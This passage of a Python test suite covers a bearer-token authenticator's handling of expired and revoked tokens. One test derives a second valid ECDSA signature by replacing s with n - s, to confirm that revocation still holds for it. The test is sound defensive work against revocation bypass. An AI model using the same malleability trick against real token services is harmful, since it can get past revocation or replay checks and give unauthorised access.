    assert door.bearer(raw).reasons[0].code == R.EXPIRED
    assert door.identity.counts == {"proved": 2, R.EXPIRED: 1}


def test_a_revoked_token_stays_rejected_when_it_is_presented_again() -> None:
    door, raw = Door(), token()
    door.bearer(raw)
    door.marks.revoke(["jti:acme/j-1"], NOW + 900, NOW)
    assert [door.bearer(raw).reasons[0].code for _ in range(3)] == [R.REVOKED] * 3


def test_a_revoked_token_stays_rejected_with_an_equivalent_ecdsa_signature() -> None:
    """ECDSA: with (r, s) also (r, n - s) holds, which anybody can tell."""
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    door, raw = Door(), token()
    text, _, signature = raw.rpartition(".")
    data = unb64(signature)
    other = f"{text}.{b64(data[:32] + (order - int.from_bytes(data[32:])).to_bytes(32))}"
    assert door.bearer(raw).outcome is door.bearer(other).outcome is Outcome.ALLOW
    proved = door.identity.known({"authorization": f"Bearer {raw}"}, NOW)
    assert proved is not None
    door.marks.revoke([name for name in proved.names if name.startswith("token:")], NOW + 900, NOW)
    assert door.bearer(raw).reasons[0].code == door.bearer(other).reasons[0].code == R.REVOKED


def test_the_helper_changed_removes_claims() -> None:
    assert changed(CLAIMS, {"iss": GONE}).keys() == CLAIMS.keys() - {"iss"}
